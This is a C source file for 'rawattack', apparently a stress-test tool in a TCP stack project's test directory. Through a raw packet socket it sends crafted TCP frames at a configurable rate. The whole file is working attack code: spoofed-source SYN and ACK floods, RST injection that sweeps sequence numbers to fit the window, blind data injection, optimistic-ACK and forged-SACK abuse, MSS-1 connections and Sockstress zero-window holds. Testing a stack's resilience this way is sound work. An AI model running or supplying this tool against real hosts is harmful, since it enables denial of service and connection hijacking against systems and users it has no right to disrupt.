// SPDX-License-Identifier: MIT OR Apache-2.0
/* rawattack: what a lawful TCP would never send, as frames, at a steady rate.
 *
 * usage: rawattack [OPTION]... IFNAME DST_MAC DST_IPV4 PORT TARGET KIND
 *   KIND: syn         SYNs, each from another address of SRC's /16 and port
 *         ack         ACKs, the same, numbers random
 *         rst         RSTs of one connection (-p), SEQ in steps of 2^16, so that
 *                     65,536 of them meet every window of that size
 *         data        100 bytes, the same, ACK random
 *         optimistic  asks for TARGET and acknowledges it before it is there:
 *                     a segment more each time, and a MB beyond all that came
 *         sack        asks, acknowledges nothing, but claims to hold four small
 *                     blocks, others each time; each eighth time nonsense
 *         mss1        asks again and again with an MSS of 1
 *         zero        asks, and keeps its window closed (Sockstress)
 *   -n N        connections (64)
 *   -f IP       first source address (198.19.1.1); -a A: so many (1)
 *   -p PORT     of the first connection (10000); rst, data: of the only one
 *   -r PPS      packets a second (20000)
 *   -s SECONDS  (5)
 * The sources must not be addresses of this machine, else its kernel answers
 * (rst, data: they may be). A connection that gets no answer to its SYN goes on
 * with numbers of its own, so into a wall it sends at the same rate. One that
 * is reset comes back. At the end, or by SIGTERM, all are reset.
 * Output: sent= pps= opened= lost= bytes=
 */
#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <linux/filter.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "tests/lib/tool.h"

#include "tests/lib/pkt.h"

#define BATCH     32
#define SYN_WAIT  300000000ULL /* ns */
#define ASK_AGAIN 200000000ULL
#define SEGMENT   1460

enum kind { SYN, ACK, RST, DATA, OPTIMISTIC, SACK, MSS1, ZERO };
static const char *const kinds[] = {
	"syn", "ack", "rst", "data", "optimistic", "sack", "mss1", "zero", NULL,
};

enum state { FRESH, ASKED, OPEN, BLIND };

struct conn {
	enum state state;
	uint64_t since_ns; /* SYN, or request */
	uint32_t nxt;      /* ours */
	uint32_t una;      /* acknowledged to the peer */
	uint32_t max;      /* end of what came */
	uint32_t turn;
};

static struct {
	struct pkt base;
	uint32_t source, sources, conns, pps, seconds;
	uint16_t port; /* of the first connection */
	enum kind kind;
	char request[256];
	uint32_t request_len;
	struct conn *conn;
	int fd;
	uint8_t frame[BATCH][PKT_FRAME_MAX];
	struct iovec iov[BATCH];
	struct mmsghdr msg[BATCH];
	unsigned int filled;
	uint32_t sweep;
	uint64_t rng, now_ns, sent, opened, lost, bytes;
} g = { .source = 0xc6130101,
	.port = 10000,
	.sources = 1,
	.conns = 64,
	.pps = 20000,
	.seconds = 5,
	.rng = 88172645463325252ULL };

static uint32_t rnd(void)
{
	g.rng ^= g.rng << 13;
	g.rng ^= g.rng >> 7;
	g.rng ^= g.rng << 17;
	return (uint32_t)(g.rng >> 16);
}

/* ---- out ---- */

static void flush(void)
{
	unsigned int done = 0;

	while (done < g.filled) {
		int n = sendmmsg(g.fd, g.msg + done, g.filled - done, 0);

		if (n > 0)
			g.sent += (uint64_t)n;
		/* The interface's queue is full: as lost as on a wire. */
		done += n > 0 ? (unsigned int)n : 1;
	}
	g.filled = 0;
}

static void put_be32(uint8_t *out, uint32_t v)
{
	v = htonl(v);
	memcpy(out, &v, 4);
}

static void put_ipv4(uint8_t *out, uint32_t ip)
{
	memset(out, 0, 10);
	out[10] = out[11] = 0xff;
	put_be32(out + 12, ip);
}

static void transmit(struct pkt *p, uint32_t source, uint16_t port)
{
	put_ipv4(p->src, source);
	p->sport = port;
	g.iov[g.filled].iov_len = pkt_build(p, g.frame[g.filled]);
	if (++g.filled == BATCH)
		flush();
}

static void transmit_conn(struct conn *c, struct pkt *p)
{
	uint32_t i = (uint32_t)(c - g.conn);

	transmit(p, g.source + i % g.sources, (uint16_t)(g.port + i));
}

static void send_syn(struct conn *c)
{
	struct pkt p = g.base;

	c->nxt = rnd();
	p.seq = c->nxt++;
	p.flags = PKT_SYN;
	pkt_opt_mss(&p, g.kind == MSS1 ? 1 : SEGMENT);
	pkt_opt_sackok(&p);
	pkt_opt_nop(&p, 2);
	pkt_opt_wscale(&p, 7);
	pkt_opt_nop(&p, 1);
	c->state = ASKED;
	c->since_ns = g.now_ns;
	c->una = c->max = rnd();
	transmit_conn(c, &p);
}

static void send_rst(struct conn *c, uint32_t seq)
{
	struct pkt p = g.base;

	p.flags = PKT_RST;
	p.seq = seq;
	c->state = FRESH;
	transmit_conn(c, &p);
}

static void ask(struct conn *c, struct pkt *p)
{
	p->payload = g.request;
	p->len = g.request_len;
	p->flags |= PKT_PSH;
	c->since_ns = g.now_ns;
}

/* Kind 5, RFC 2018: blocks of up to 20 bytes somewhere in what came. */
static void claim(struct conn *c, struct pkt *p)
{
	uint32_t span = c->max - c->una;
	bool nonsense = c->turn % 8 == 0 || span < 64;

	p->opt[0] = p->opt[1] = 1;
	p->opt[2] = 5;
	p->opt[3] = 2 + 4 * 8;
	p->opt_len = 36;
	for (size_t i = 0; i < 4; i++) {
		uint32_t at = rnd(), end = rnd();

		if (!nonsense) {
			at = c->una + 1 + at % (span - 40);
			end = at + 1 + end % 20;
		}
		put_be32(p->opt + 4 + i * 8, at);
		put_be32(p->opt + 8 + i * 8, end);
	}
}

/* The kind's segment. */
static void abuse(struct conn *c)
{
	struct pkt p = g.base;

	c->turn++;
	p.flags = PKT_ACK;
	p.seq = c->nxt;
	if (g.kind == OPTIMISTIC) {
		c->una += SEGMENT;
		p.ack = c->turn % 8 ? c->una : c->max + (1 << 20);
	} else if (g.kind == SACK) {
		p.ack = c->una;
		claim(c, &p);
	} else {
		p.ack = c->una = c->max;
	}
	if (g.kind == ZERO)
		p.wnd = 0;
	if (g.kind != SACK && g.kind != ZERO && c->state == OPEN &&
	    g.now_ns - c->since_ns >= ASK_AGAIN) {
		p.ack = c->una = c->max;
		ask(c, &p);
	}
	transmit_conn(c, &p);
}

static void flood(void)
{
	struct pkt p = g.base;
	uint32_t source = g.source;
	uint16_t port = g.port;

	if (g.kind == SYN || g.kind == ACK) {
		source = (g.source & 0xffff0000) | (rnd() & 0xffff);
		port = (uint16_t)(1024 + (rnd() & 0x7fff));
	}
	p.seq = rnd();
	p.ack = rnd();
	if (g.kind == SYN) {
		p.flags = PKT_SYN;
		pkt_opt_mss(&p, SEGMENT);
	} else if (g.kind == ACK) {
		p.flags = PKT_ACK;
	} else {
		p.flags = g.kind == RST ? PKT_RST : PKT_ACK | PKT_PSH;
		p.seq = g.sweep += 65536;
	}
	if (g.kind == DATA) {
		p.payload = "GET /forged HTTP/1.1\r\nHost: a\r\n\r\n";
		p.len = 34;
	}
	transmit(&p, source, port);
}

static void next_packet(void)
{
	static uint32_t turn;
	struct conn *c;

	if (g.kind <= DATA) {
		flood();
		return;
	}
	c = &g.conn[turn++ % g.conns];
	if (c->state == FRESH)
		send_syn(c);
	else if (c->state == ASKED && g.now_ns - c->since_ns > SYN_WAIT)
		c->state = BLIND;
	if (c->state >= OPEN)
		abuse(c);
}

/* ---- in ---- */

static void opened(struct conn *c, uint32_t seq, uint32_t ack)
{
	struct pkt p = g.base;

	g.opened++;
	c->state = OPEN;
	c->nxt = ack;
	c->una = c->max = seq + 1;
	p.flags = PKT_ACK;
	p.seq = c->nxt;
	p.ack = c->una;
	ask(c, &p);
	transmit_conn(c, &p);
}

static void take(const uint8_t *b, size_t len)
{
	const uint8_t *tcp = b + ETH_HLEN + 20;
	uint32_t seq, ack, data, end, i;
	struct conn *c;

	if (len < ETH_HLEN + 40 || b[ETH_HLEN] != 0x45 ||
	    b[ETH_HLEN + 9] != IPPROTO_TCP)
		return;
	i = pkt_be16(tcp + 2) - g.port;
	if (i >= g.conns)
		return;
	c = &g.conn[i];
	seq = pkt_be32(tcp + 4);
	ack = pkt_be32(tcp + 8);
	data = pkt_be16(b + ETH_HLEN + 2) - 20u - (tcp[12] >> 4) * 4u;
	if (tcp[13] & PKT_SYN) {
		if (c->state == ASKED && ack == c->nxt)
			opened(c, seq, ack);
		return;
	}
	if (c->state == ASKED && !(tcp[13] & PKT_RST))
		send_rst(c, ack); /* one of our name, of an earlier run */
	if (c->state == FRESH || c->state == ASKED)
		return;
	if (tcp[13] & (PKT_RST | PKT_FIN)) {
		g.lost++;
		c->state = FRESH;
		return;
	}
	c->nxt = ack;
	end = seq + data;
	g.bytes += data;
	if ((int32_t)(end - c->max) > 0)
		c->max = end;
}

static void receive(void)
{
	static uint8_t buf[BATCH][128];
	static struct iovec iov[BATCH];
	static struct mmsghdr msg[BATCH];
	int n;

	for (int i = 0; i < BATCH; i++) {
		iov[i] = (struct iovec){ buf[i], sizeof(buf[i]) };
		msg[i].msg_hdr =
			(struct msghdr){ .msg_iov = &iov[i], .msg_iovlen = 1 };
	}
	do {
		n = recvmmsg(g.fd, msg, BATCH, MSG_DONTWAIT, NULL);
		for (int i = 0; i < n; i++)
			take(buf[i], msg[i].msg_len);
	} while (n == BATCH);
}

/* Only what comes to the sources' /16 is handed to us. */
static void filter(void)
{
	struct sock_filter code[] = {
		BPF_STMT(BPF_LD | BPF_H | BPF_ABS, ETH_HLEN + 16),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, g.source >> 16, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, 128),
		BPF_STMT(BPF_RET | BPF_K, 0),
	};
	struct sock_fprog prog = { 4, code };

	if (setsockopt(g.fd, SOL_SOCKET, SO_ATTACH_FILTER, &prog, sizeof(prog)))
		die_errno("filter");
}

/* ---- start ---- */

static uint32_t ipv4(const char *text)
{
	struct in_addr in;

	if (inet_pton(AF_INET, text, &in) != 1) {
		errno = EINVAL;
		die_errno(text);
	}
	return ntohl(in.s_addr);
}

static void open_socket(const char *name)
{
	struct sockaddr_ll ll = { .sll_family = AF_PACKET,
				  .sll_protocol = htons(ETH_P_IP),
				  .sll_ifindex = (int)if_nametoindex(name) };
	int one = 1;

	g.fd = socket(AF_PACKET, SOCK_RAW, 0);
	if (g.fd == -1)
		die_errno("packet socket");
	filter();
	if (setsockopt(g.fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one,
		       sizeof(one)) ||
	    bind(g.fd, (struct sockaddr *)&ll, sizeof(ll)))
		die_errno(name);
	for (int i = 0; i < BATCH; i++) {
		g.iov[i].iov_base = g.frame[i];
		g.msg[i].msg_hdr.msg_iov = &g.iov[i];
		g.msg[i].msg_hdr.msg_iovlen = 1;
	}
}

static void set_up(char **arg)
{
	uint8_t *m = g.base.dst_mac;
	const char *text = arg[1];

	errno = EINVAL;
	for (int i = 0; i < 6; i++) {
		char *end;

		m[i] = (uint8_t)strtoul(text, &end, 16);
		if (end == text || *end != (i < 5 ? ':' : 0))
			die_errno(arg[1]);
		text = end + 1;
	}
	while (kinds[g.kind] && strcmp(kinds[g.kind], arg[5]))
		g.kind++;
	if (!kinds[g.kind])
		die_errno(arg[5]);
	g.base.src_mac[0] = 2;
	g.base.family = 4;
	g.base.ttl = 64;
	g.base.proto = IPPROTO_TCP;
	g.base.wnd = 8000;
	put_ipv4(g.base.dst, ipv4(arg[2]));
	g.base.dport = (uint16_t)number(arg[3], 65535);
	g.request_len = (uint32_t)snprintf(g.request, sizeof(g.request),
					   "GET %s HTTP/1.1\r\nHost: a\r\n\r\n",
					   arg[4]);
	g.sweep = rnd();
	g.conn = calloc(g.conns, sizeof(*g.conn));
	if (!g.conn)
		die_errno("memory");
	open_socket(arg[0]);
}

static volatile sig_atomic_t stopped;

static void stop(int sig)
{
	stopped = sig;
}

/* What was missed by more than 10 ms stays missed. */
static void run(void)
{
	uint64_t interval = 1000000000 / g.pps, start = now_ns(), next = start;
	uint64_t end = start + g.seconds * 1000000000ULL;

	while (!stopped && (g.now_ns = now_ns()) < end) {
		receive();
		if (next + 10000000 < g.now_ns)
			next = g.now_ns;
		for (int i = 0; i < BATCH && next <= g.now_ns; i++) {
			next_packet();
			next += interval;
		}
		flush();
		if (next > g.now_ns + 100000)
			usleep(100);
	}
	for (uint32_t i = 0; g.conn && i < g.conns; i++)
		if (g.conn[i].state == OPEN)
			send_rst(&g.conn[i], g.conn[i].nxt);
	flush();
	printf("sent=%llu pps=%.0f opened=%llu lost=%llu bytes=%llu\n",
	       (unsigned long long)g.sent,
	       (double)g.sent * 1e9 / (double)(end - start),
	       (unsigned long long)g.opened, (unsigned long long)g.lost,
	       (unsigned long long)g.bytes);
}

int main(int argc, char **argv)
{
	int opt;

	while ((opt = getopt(argc, argv, "n:f:a:p:r:s:")) != -1) {
		switch (opt) {
		case 'n':
			g.conns = number(optarg, 50000);
			break;
		case 'f':
			g.source = ipv4(optarg);
			break;
		case 'a':
			g.sources = number(optarg, 65536);
			break;
		case 'p':
			g.port = (uint16_t)number(optarg, 65535);
			break;
		case 'r':
			g.pps = number(optarg, 10000000);
			break;
		case 's':
			g.seconds = number(optarg, 100000);
			break;
		default:
			argc = 0;
			break;
		}
	}
	if (argc - optind != 6) {
		fprintf(stderr, "usage: rawattack [OPTION]... IFNAME DST_MAC "
				"DST_IPV4 PORT TARGET KIND\n");
		return 2;
	}
	signal(SIGTERM, stop);
	set_up(argv + optind);
	run();
	return 0;
}
